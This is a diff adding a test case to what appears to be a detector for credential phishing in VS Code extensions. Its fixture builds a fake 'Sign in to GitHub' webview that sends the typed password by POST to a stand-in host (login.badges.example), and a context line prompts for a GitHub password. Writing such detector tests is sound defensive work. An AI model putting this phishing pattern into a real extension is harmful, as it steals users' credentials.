@@ -29,3 +29,11 @@ test('good: the login of its own service, keys of services on their servers, lin
     'const value = prompt("GitHub: please enter your password to continue"); fetch("https://api.github.com/user", { headers: { authorization: value } });',
   ]) assert.ok(!found(code).includes('high'), code);
 });
+
+test('whose login it is say the hosts that the script of the page asks, not those that others of its package ask', () => {
+  const page = (to: string): string => `const vscode = require('vscode'); exports.ask = () => { const panel = vscode.window.createWebviewPanel('a', 'GitHub', 1, {}); panel.webview.html = \`<h2>Sign in to GitHub</h2><input type="password" id="p">\`; panel.webview.onDidReceiveMessage((m) => fetch('${to}', { method: 'POST', body: m.p })); };`;
+  const entry = (other: string): string => `const { ask } = require('./page'); exports.activate = async () => { if ((await fetch('${other}')).status === 403) ask(); };`;
+  const worst = (to: string, other: string): string[] => findingsOf(rule, { 'main.js': entry(other), 'page.js': page(to) }, { dialect: 'vscode', entry_points: ['main.js'] }).map(({ severity, file }) => `${severity} ${file}`);
+  assert.ok(worst('https://login.badges.example/l', 'https://api.github.com/user').includes('high page.js'));
+  assert.ok(!worst('https://api.github.com/authorizations', 'https://news.badges.example/').includes('high page.js'));
+});
